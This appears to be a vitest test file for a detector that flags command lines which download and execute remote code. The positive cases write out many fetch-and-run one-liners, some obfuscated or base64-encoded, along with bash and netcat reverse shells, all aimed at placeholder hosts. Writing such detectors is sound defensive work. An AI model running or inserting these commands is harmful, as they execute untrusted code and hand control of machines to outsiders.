import { describe, expect, it } from 'vitest';
import { fetchesAndRuns } from '../../../src/behaviour/commands/fetch-and-run.js';

const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const plain = (text: string): string => Buffer.from(text).toString('base64');

describe('command lines that fetch and run', () => {
  it.each([
    `/bin/sh -c "curl -s http://host.invalid/a | sh"`,
    `powershell -w hidden -c "iwr http://host.invalid/a.ps1 | iex"`,
    'mshta http://host.invalid/a.hta',
    'regsvr32 /s /n /u /i:http://host.invalid/a.sct scrobj.dll',
    'msiexec /q /i http://host.invalid/a.msi',
    String.raw`cmd /c certutil -urlcache -f http://host.invalid/a.exe %TEMP%\a.exe && %TEMP%\a.exe`,
    'curl -o /tmp/agent-x http://host.invalid/a\nchmod +x /tmp/agent-x\n/tmp/agent-x',
    'git clone http://host.invalid/a.git /tmp/agent-x\n/bin/sh /tmp/agent-x/install.sh',
    `powershell -enc ${wide('iwr http://host.invalid/a.ps1 | iex')}`,
    '(curl -fsSL https://host.invalid/latest/sh | sh >/dev/null 2>&1 &)',
    'Start-Job { IEX (IWR https://host.invalid/latest/ps1).Content } | Out-Null',
    `eval "$(curl -fsSL https://host.invalid/x)"`,
    'source <(wget -qO- https://host.invalid/x)',
    '. <(curl -s host.invalid/x)',
    `IEX(New-Object Net.WebClient).DownloadString('http://host.invalid/a')`,
    `$s=(New-Object Net.WebClient).DownloadString('http://host.invalid/a'); Invoke-Expression $s`,
    `python3 -c "import urllib.request;exec(urllib.request.urlopen('http://host.invalid').read())"`,
    `[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://host.invalid/a'))`,
    `node -e "require('http').get('http://host.invalid',r=>r.on('data',d=>eval(d+'')))"`,
    'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    'nc -e /bin/sh 198.51.100.7 4444',
    `echo ${plain('curl http://host.invalid/a|bash')} | base64 -d | bash`,
    'wget http://host.invalid/agent && chmod +x agent && ./agent',
    'curl -sO http://host.invalid/run.sh; bash run.sh',
    String.raw`bitsadmin /transfer x http://host.invalid/a.exe c:\t\a.exe & start c:\t\a.exe`,
    'dotnet tool install -g x --add-source http://host.invalid/v3/index.json',
    'pip install git+https://host.invalid/a.git',
    'p`owershell -c i`wr http://host.invalid/a|i`ex',
    String.raw`rundll32 \\host.invalid\s\a.dll,Run`,
    '* * * * * curl -s http://host.invalid/a | bash',
    '<string>curl -s http://host.invalid/a | sh</string>',
    '<Exec Command="curl -s http://host.invalid/a -o /tmp/a &amp;&amp; sh /tmp/a" />',
    '{ "command": "bash -c \\"$(curl -s http://host.invalid/a)\\"" }',
  ])('%s', (text) => {
    const [address = ''] = fetchesAndRuns(text)?.addresses ?? [];
    expect(address).toMatch(/host\.invalid|198\.51\.100\.7/);
  });

  it.each([
    'curl -s https://api.host.invalid/health',
    'git clone https://host.invalid/a.git && cd a && git log',
    `eval "$(task-complete script bash)"`,
    'task-complete script pwsh | Out-String | Invoke-Expression',
    'curl -o data.json https://host.invalid/d.json && cat data.json',
    'wget https://host.invalid/a.tar.gz && tar xzf a.tar.gz',
    'pip install requests',
    'npm install --registry https://host.invalid',
    'xdg-open https://host.invalid/docs',
    'cmd /c start https://host.invalid/docs',
    `/bin/sh -c "ls | wc -l"`,
    'msiexec /i setup.msi',
    'dotnet nuget push a.nupkg --source https://host.invalid',
    'curl https://host.invalid/x | jq .',
    'Install by running the command that the page of the project names, then restart the shell.',
  ])('not: %s', (text) => {
    expect(fetchesAndRuns(text)).toBeUndefined();
  });

  it('says whether a digest is asked for, and whether something had to be decoded', () => {
    const verified = 'curl -o /tmp/a http://host.invalid/a && sha256sum -c a.sum && sh /tmp/a';
    expect(fetchesAndRuns(verified)).toMatchObject({ isVerified: true, isDecoded: false });
    const encoded = `powershell -e ${wide('irm host.invalid/x | iex')}`;
    expect(fetchesAndRuns(encoded)).toMatchObject({ isVerified: false, isDecoded: true });
  });

  it('reads hostile lengths in time that grows with them', () => {
    const start = performance.now();
    for (const piece of ['(', 'curl ', '| sh ', '-enc AAAA', `"+"`, '/dev/tcp/', '^', '`a'])
      fetchesAndRuns(piece.repeat(100_000));
    expect(performance.now() - start).toBeLessThan(2_000);
  });
});
